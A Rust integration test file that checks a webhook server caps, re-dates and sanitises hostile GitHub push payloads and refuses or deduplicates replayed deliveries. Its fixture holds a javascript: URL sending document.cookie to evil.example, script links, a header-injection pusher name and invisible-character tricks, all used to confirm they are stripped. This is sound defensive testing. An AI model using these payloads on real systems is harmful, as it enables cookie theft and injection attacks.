//! What a signed payload can no longer make the server store or serve, over the wire: more than
//! 2,048 commits, a push dated in the future, script links, invisible characters, a replayed
//! Standard Webhooks delivery, and a GitHub delivery replayed under a new delivery id.

use crate::support::app::{TestApp, TestProject};
use base64::Engine as _;
use chrono::Utc;
use hmac::{Hmac, Mac};
use serde_json::{Value, json};
use sha2::Sha256;

fn only_push(app: &TestApp, project: &TestProject) -> Value {
    let list = app.get("/api/v1/pushes", Some(&project.key));
    assert_eq!(list.status, 200, "{}", list.body);
    assert_eq!(list.body["pagination"]["total"], 1, "{}", list.body);
    let id = list.body["pushes"][0]["id"].as_str().unwrap().to_owned();
    let detail = app.get(&format!("/api/v1/pushes/{id}"), Some(&project.key));
    assert_eq!(detail.status, 200, "{}", detail.body);
    detail.body
}

#[test]
fn a_hostile_github_push_is_stored_capped_dated_when_received_and_cleaned() {
    let app = TestApp::spawn();
    let project = app.create_project("hostile");
    let commits: Vec<Value> = (0..3_000)
        .map(|i| {
            json!({
                "id": format!("{i:040x}"),
                "message": format!("commit {i}\r\n\u{202E}body"),
                "url": if i % 2 == 0 { "javascript:alert(1)".to_owned() } else {
                    format!("https://github.com/acme/app/commit/{i:040x}")
                },
                "timestamp": "9999-01-01T00:00:00Z",
                "author": {"username": "mal\u{0}lory"},
            })
        })
        .collect();
    let body = serde_json::to_vec(&json!({
        "ref": "refs/heads/main\u{202E}txt.exe",
        "before": "1".repeat(40),
        "after": "2".repeat(40),
        "compare": "javascript:fetch('https://evil.example/?'+document.cookie)",
        "commits": commits,
        "pusher": {"name": "eve\r\nX-Injected: 1"},
        "repository": {"full_name": "acme/app", "pushed_at": 253_402_300_799_i64},
    }))
    .unwrap();
    let before = Utc::now();
    let reply = app.github_push(&project, "hostile-1", &body);
    assert_eq!(reply.status, 201, "{}", reply.body);

    let push = only_push(&app, &project);
    assert_eq!(push["commitCount"], 3_000);
    assert_eq!(push["commitsTruncated"], true);
    let stored = push["commits"].as_array().unwrap();
    assert_eq!(stored.len(), 2_048);
    assert_eq!(
        stored.last().unwrap()["sha"],
        format!("{:040x}", 2_999),
        "the newest are kept"
    );
    assert_eq!(
        push["pushedAt"], push["receivedAt"],
        "year 9999 is not believed"
    );
    let received = chrono::DateTime::parse_from_rfc3339(push["receivedAt"].as_str().unwrap())
        .unwrap()
        .with_timezone(&Utc);
    assert!(received >= before - chrono::Duration::seconds(1));
    assert_eq!(push["compareUrl"], Value::Null);
    assert!(
        stored
            .iter()
            .all(|c| c["url"].is_null() || c["url"].as_str().unwrap().starts_with("https://")),
        "no script link is served"
    );
    assert!(stored.iter().all(|c| c["timestamp"].is_null()));
    assert_eq!(push["branch"], "main\u{FFFD}txt.exe");
    assert_eq!(push["author"], "eve\u{FFFD}\u{FFFD}X-Injected: 1");
    assert_eq!(stored[0]["author"], "mal\u{FFFD}lory");
    assert!(
        stored[0]["message"].as_str().unwrap().ends_with("\nbody"),
        "{}",
        stored[0]["message"]
    );
    // A host clock a minute fast is believed, and its push is listed first (newest first).
    let honest =
        crate::support::app::github_payload("main", &["fix: x"], Utc::now().timestamp() + 60);
    assert_eq!(app.github_push(&project, "honest-1", &honest).status, 201);
    let list = app.get("/api/v1/pushes", Some(&project.key));
    assert_eq!(list.body["pushes"][0]["branch"], "main", "{}", list.body);
}

/// A GitLab delivery signed the Standard Webhooks way (GitLab 19) at `timestamp`.
fn gitlab_signed(app: &TestApp, project: &TestProject, id: &str, timestamp: i64) -> u16 {
    let body = crate::support::app::fixture("gitlab/push.gitlab-docs.json");
    let mut mac = Hmac::<Sha256>::new_from_slice(project.secret.as_bytes()).unwrap();
    mac.update(format!("{id}.{timestamp}.").as_bytes());
    mac.update(&body);
    let signature = format!(
        "v1,{}",
        base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes())
    );
    let reply = app.post(
        &project.webhook_url,
        &[
            ("Content-Type", "application/json"),
            ("X-Gitlab-Event", "Push Hook"),
            ("webhook-id", id),
            ("webhook-timestamp", &timestamp.to_string()),
            ("webhook-signature", &signature),
        ],
        &body,
    );
    if reply.status == 401 {
        assert_eq!(
            reply.body["error"]["code"], "stale_timestamp",
            "{}",
            reply.body
        );
        let message = reply.body["error"]["message"].as_str().unwrap();
        assert!(message.contains("5 minutes"), "{message}");
    }
    reply.status
}

#[test]
fn a_standard_webhooks_delivery_signed_more_than_five_minutes_ago_is_refused_and_not_stored() {
    let app = TestApp::spawn();
    let project = app.create_project("replays");
    let now = Utc::now().timestamp();
    for (id, at) in [
        ("msg_hour_old", now - 3_600),
        ("msg_2001", 978_307_200),
        ("msg_5138", 99_999_999_999),
        ("msg_future", now + 3_600),
    ] {
        assert_eq!(gitlab_signed(&app, &project, id, at), 401, "{id}");
    }
    assert_eq!(app.sql_count("SELECT count(*) FROM pushes"), 0);
    assert_eq!(gitlab_signed(&app, &project, "msg_fresh", now), 201);
    assert_eq!(app.sql_count("SELECT count(*) FROM pushes"), 1);
}

/// A GitHub push from `before` to `after` on `main`, delivered under `delivery`.
fn ref_change(
    app: &TestApp,
    project: &TestProject,
    delivery: &str,
    before: &str,
    after: &str,
) -> (u16, Value) {
    let body = serde_json::to_vec(&json!({
        "ref": "refs/heads/main",
        "before": before,
        "after": after,
        "commits": [{"id": after, "message": "fix: a bug", "author": {"username": "ada"}}],
        "pusher": {"name": "ada"},
        "repository": {"full_name": "acme/app"},
    }))
    .unwrap();
    let reply = app.github_push(project, delivery, &body);
    (reply.status, reply.body)
}

#[test]
fn a_captured_github_delivery_replayed_under_new_delivery_ids_is_stored_once() {
    let app = TestApp::spawn();
    let project = app.create_project("replayed");
    let (a, b) = ("a".repeat(40), "b".repeat(40));
    let (status, first) = ref_change(&app, &project, "original", &a, &b);
    assert_eq!(status, 201, "{first}");
    // GitHub does not sign X-GitHub-Delivery: a replay carries the same signed body under any id.
    for delivery in ["replay-1", "replay-2"] {
        let (status, body) = ref_change(&app, &project, delivery, &a, &b);
        assert_eq!(
            status, 200,
            "a replay is answered like a redelivery: {body}"
        );
        assert_eq!(body["pushes"][0], first["pushes"][0], "{body}");
    }
    // Concurrent replays meet in the writer's transaction: none of them is stored.
    std::thread::scope(|s| {
        let replies: Vec<_> = (0..8)
            .map(|i| {
                let (app, project, a, b) = (&app, &project, &a, &b);
                s.spawn(move || ref_change(app, project, &format!("burst-{i}"), a, b).0)
            })
            .collect();
        for reply in replies {
            assert_eq!(reply.join().unwrap(), 200);
        }
    });
    assert_eq!(app.sql_count("SELECT count(*) FROM pushes"), 1);

    // A ref that came back (a force-push to A, then A to B again) is a new change, stored.
    assert_eq!(ref_change(&app, &project, "force-back", &b, &a).0, 201);
    assert_eq!(ref_change(&app, &project, "forward-again", &a, &b).0, 201);
    // Another ref, repository or project with the same shas is another change.
    let other = app.create_project("other");
    assert_eq!(ref_change(&app, &other, "original", &a, &b).0, 201);
    assert_eq!(app.sql_count("SELECT count(*) FROM pushes"), 4);
}
